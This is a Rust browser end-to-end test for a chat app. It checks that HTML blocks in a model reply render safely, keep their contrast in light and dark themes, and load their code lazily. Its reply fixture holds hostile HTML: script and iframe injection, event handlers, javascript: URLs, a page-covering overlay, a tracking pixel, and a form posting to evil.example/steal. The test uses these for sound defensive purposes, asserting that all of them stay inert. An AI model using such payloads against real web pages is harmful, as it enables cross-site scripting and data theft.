//! Inline HTML in a reply, on the real build in Chromium: a model's "visual block" (an
//! HTML block) renders with its safe markup and layout, its colours become theme tokens that
//! keep their contrast in both themes, every hostile part stays inert (no script runs,
//! nothing is fetched, nothing covers the page, no CSP violation), it streams, it comes
//! back after a reload, and the code that does it (a lazily loaded chunk and the HTML
//! worker) is not fetched until a reply first holds a block. In a paragraph or a
//! Markdown table, formatting tags without attributes (`<kbd>`, `<br>`) render and the
//! rest stays text.

use hearth_e2e::AppSession;
use hearth_e2e::chat::{last_status, open_latest, ready, reload_in_theme, send};
use hearth_e2e::provider_fixture::{ProviderFixture, Reply};
use serde_json::{Value, json};

/// A reply as a model writes one when asked for a visual summary, with the study's
/// hostile section (Neo Chat's behaviour 40) and the usual attacks among its blocks.
const REPLY: &str = "Here is the status board.\n\n\
<section onclick=\"window.__pwned=1\" style=\"position:fixed;inset:0;z-index:9999;background:url(javascript:alert(1));display:flex\"><script>window.__pwned=2</script><style>.message{display:none}</style><iframe srcdoc=\"<script>parent.__pwned=3</script>\">bad frame</iframe><a href=\"javascript:window.__pwned=4\">bad</a><span class=\"ok\" style=\"color:#16a34a\">safe</span></section>\n\n\
<div class=\"card\" style=\"display:flex;gap:12px;padding:12px;border:1px solid #bfdbfe;border-radius:8px;background:#eff6ff;color:#1e3a8a\">\n\
<div style=\"flex:1\"><strong>Build</strong><br><span style=\"background:#16a34a;color:#fff;padding:2px 8px;border-radius:999px\">passing</span></div>\n\
<div style=\"flex:1\"><strong>Deploy</strong><br><span style=\"background:#fee2e2;color:#991b1b;padding:2px 8px\">blocked</span> <span style=\"color:#fff\">hidden text</span></div>\n\
</div>\n\n\
<table><tr><th colspan=\"2\">Plan</th></tr><tr><td>Mon<br>Tue</td><td><kbd>Ctrl</kbd>+<kbd>K</kbd></td></tr></table>\n\n\
<details><summary>Sources</summary><a href=\"https://example.com/report\" onclick=\"window.__pwned=5\">report</a> <img src=\"https://tracker.example/pixel.png?leak=1\" onerror=\"window.__pwned=6\"></details>\n\n\
<form action=\"https://evil.example/steal\"><input name=\"q\" value=\"x\"><button>Send</button></form>\n\n\
Press <kbd>Ctrl</kbd>+<kbd>K</kbd>, then <b onclick=\"window.__pwned=7\">this</b>.\n\n\
| day | plan |\n|---|---|\n| Mon | one<br>two |\n\n\
Done.\n";

/// Facts about the last reply's HTML blocks.
const BLOCKS: &str = "const m = [...document.querySelectorAll('.message--assistant')].at(-1);
const blocks = [...m.querySelectorAll('.html-block')];
const section = m.querySelector('.html-block section');
const card = blocks[1]?.firstElementChild;
return {
  pwned: window.__pwned ?? null,
  blocks: blocks.length,
  ready: blocks.filter((b) => b.hasAttribute('data-html-ready')).length,
  forbidden: m.querySelectorAll('.html-block :is(script, style, iframe, form, input, button, svg, [onclick], [onerror], [class], [id])').length,
  images: m.querySelectorAll('.html-block img[src]:not([src^=\"data:image/\"])').length,
  hrefs: [...m.querySelectorAll('.html-block a[href]')].map((a) => [a.getAttribute('href'), a.target, a.rel]),
  sectionPosition: section && getComputedStyle(section).position,
  sectionDisplay: section && getComputedStyle(section).display,
  sectionZ: section && getComputedStyle(section).zIndex,
  safeColour: m.querySelector('.html-block section span')?.style.color,
  cardDisplay: card && getComputedStyle(card).display,
  cardGap: card && getComputedStyle(card).columnGap,
  cardFill: card?.style.backgroundColor,
  // The print view copies a reply with cloneNode: the copy keeps the styles.
  cloneDisplay: (() => { if (!card) return null; const c = card.cloneNode(true); document.body.append(c);
    const d = getComputedStyle(c).display; c.remove(); return d; })(),
  badgeText: m.querySelector('.html-block span[data-hb-backdrop=\"strong\"]')?.style.color,
  th: m.querySelector('.html-block th')?.getAttribute('colspan'),
  kbd: m.querySelectorAll('.html-block kbd').length,
  messageVisible: getComputedStyle(m).display !== 'none',
  paragraphKbd: [...m.querySelectorAll('kbd')].filter((k) => !k.closest('.html-block')).map((k) => k.textContent),
  paragraphBold: [...m.querySelectorAll('b')].filter((b) => !b.closest('.html-block')).length,
  cellBreaks: [...m.querySelectorAll('td br')].filter((b) => !b.closest('.html-block')).length,
  text: blocks.map((b) => b.textContent).join(' | '),
};";

/// The lowest contrast between a text's colour and what lies behind it, over every
/// element of the HTML blocks that holds text of its own.
const LOWEST_CONTRAST: &str = "const parse = (c) => { const v = c.match(/[\\d.]+/g).map(Number); return { rgb: v.slice(0, 3), a: v.length > 3 ? v[3] : 1 }; };
const lum = ([r, g, b]) => { const f = (x) => { x /= 255; return x <= 0.03928 ? x / 12.92 : ((x + 0.055) / 1.055) ** 2.4; }; return 0.2126 * f(r) + 0.7152 * f(g) + 0.0722 * f(b); };
const behind = (e) => { for (let n = e; n; n = n.parentElement) { const c = parse(getComputedStyle(n).backgroundColor); if (c.a > 0.5) return c.rgb; } return parse(getComputedStyle(document.body).backgroundColor).rgb; };
const m = [...document.querySelectorAll('.message--assistant')].at(-1);
let lowest = { ratio: 99, text: '' };
for (const e of m.querySelectorAll('.html-block *')) {
  if (![...e.childNodes].some((n) => n.nodeType === 3 && n.textContent.trim())) continue;
  const a = lum(parse(getComputedStyle(e).color).rgb), b = lum(behind(e));
  const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
  if (ratio < lowest.ratio) lowest = { ratio, text: e.textContent.trim().slice(0, 40) };
}
return lowest;";

/// The page's resources fetched so far whose address holds `part`.
async fn fetched(session: &AppSession, part: &str) -> Vec<String> {
    let names = session
        .js(
            "return performance.getEntriesByType('resource').map((e) => e.name).filter((n) => n.includes(arguments[0]))",
            vec![json!(part)],
        )
        .await;
    serde_json::from_value(names).unwrap()
}

/// Records the scripts of the Web Workers the page starts from now on.
async fn count_workers(session: &AppSession) {
    session
        .js(
            "window.workersStarted = [];
             const Original = window.Worker;
             window.Worker = class extends Original {
               constructor(url, options) { super(url, options); window.workersStarted.push(String(url)); }
             };",
            vec![],
        )
        .await;
}

async fn workers_started(session: &AppSession) -> Vec<String> {
    serde_json::from_value(session.js("return window.workersStarted", vec![]).await).unwrap()
}

async fn blocks_ready(session: &AppSession, count: usize) -> Value {
    session
        .wait_until(&format!(
            "(() => {{ const m = [...document.querySelectorAll('.message--assistant')].at(-1);
               return m && m.querySelectorAll('.html-block[data-html-ready]').length === {count}; }})()"
        ))
        .await;
    session.js(BLOCKS, vec![]).await
}

fn check_blocks(found: &Value) {
    assert_eq!(found["pwned"], Value::Null, "{found}");
    assert_eq!(found["forbidden"], json!(0), "{found}");
    assert_eq!(
        found["images"],
        json!(0),
        "a remote image loses its source: {found}"
    );
    assert_eq!(
        found["hrefs"],
        json!([[
            "https://example.com/report",
            "_blank",
            "noopener noreferrer nofollow"
        ]]),
        "only the safe link stays, opened without opener: {found}"
    );
    assert_eq!(found["sectionPosition"], json!("static"), "{found}");
    assert_eq!(found["sectionZ"], json!("auto"), "{found}");
    assert_eq!(
        found["sectionDisplay"],
        json!("flex"),
        "safe layout is kept: {found}"
    );
    assert_eq!(
        found["safeColour"],
        json!("var(--hv-green-text)"),
        "{found}"
    );
    assert_eq!(found["cardDisplay"], json!("flex"), "{found}");
    assert_eq!(found["cardGap"], json!("12px"), "{found}");
    assert_eq!(found["cardFill"], json!("var(--hv-blue-fill)"), "{found}");
    assert_eq!(
        found["cloneDisplay"],
        json!("flex"),
        "a copy keeps its styles: {found}"
    );
    assert_eq!(
        found["badgeText"],
        json!("var(--hv-inverse-text)"),
        "{found}"
    );
    assert_eq!(found["th"], json!("2"), "{found}");
    assert_eq!(found["kbd"], json!(2), "{found}");
    assert_eq!(
        found["messageVisible"],
        json!(true),
        "a block's <style> is gone: {found}"
    );
    assert_eq!(
        found["paragraphKbd"],
        json!(["Ctrl", "K"]),
        "formatting tags in a paragraph: {found}"
    );
    assert_eq!(
        found["paragraphBold"],
        json!(0),
        "a tag with a handler stays text: {found}"
    );
    assert_eq!(
        found["cellBreaks"],
        json!(1),
        "a line break in a Markdown table: {found}"
    );
    let text = found["text"].as_str().unwrap();
    for gone in ["bad frame", "__pwned", "alert", "Send"] {
        assert!(!text.contains(gone), "{gone} in {text}");
    }
    for kept in [
        "safe",
        "Build",
        "passing",
        "blocked",
        "hidden text",
        "Mon",
        "Sources",
    ] {
        assert!(text.contains(kept), "{kept} missing from {text}");
    }
}

#[tokio::test]
async fn an_html_block_keeps_its_safe_markup_in_both_themes_and_loads_only_when_needed() {
    let fixture = ProviderFixture::start().await;
    let session = ready(&fixture).await;
    count_workers(&session).await;
    fixture.enqueue(Reply::text(
        "A plain answer with *Markdown* and `<b>code</b>`.",
    ));
    send(&session, "Say something plain").await;
    last_status(&session, "done").await;
    let started = workers_started(&session).await;
    assert!(
        !started.iter().any(|url| url.contains("hearth-html")),
        "the HTML worker is not started for an answer without an HTML block: {started:?}"
    );

    fixture.enqueue(Reply::text(REPLY).chunk_bytes(11));
    send(&session, "Show me a visual status board").await;
    last_status(&session, "done").await;
    let found = blocks_ready(&session, 5).await;
    check_blocks(&found);
    assert!(
        fetched(&session, "tracker.example").await.is_empty(),
        "nothing was fetched from the reply's image link"
    );
    let started = workers_started(&session).await;
    assert_eq!(
        started
            .iter()
            .filter(|url| url.contains("hearth-html_loader.js"))
            .count(),
        1,
        "one HTML worker serves every block: {started:?}"
    );
    session
        .js(
            "[...document.querySelectorAll('.message--assistant')].at(-1).querySelector('.card, .html-block:nth-of-type(2)')?.scrollIntoView()",
            vec![],
        )
        .await;

    for theme in ["light", "dark"] {
        reload_in_theme(&session, theme).await;
        open_latest(&session).await;
        last_status(&session, "done").await;
        let found = blocks_ready(&session, 5).await;
        check_blocks(&found);
        let lowest = session.js(LOWEST_CONTRAST, vec![]).await;
        assert!(
            lowest["ratio"].as_f64().unwrap() >= 4.5,
            "{theme}: text under 4.5:1 against what is behind it: {lowest}"
        );
        session
            .js(
                "document.querySelector('.message--assistant:last-of-type .html-block[data-html-ready]')?.scrollIntoView({ block: 'center' })",
                vec![],
            )
            .await;
        session.screenshot(&format!("html-blocks-{theme}")).await;
    }
    let provider = fixture.url();
    session
        .assert_no_console_errors_but(|m| {
            m.contains(&provider) || m.contains("blocked by CORS policy")
        })
        .await;
    session.finish().await;
}
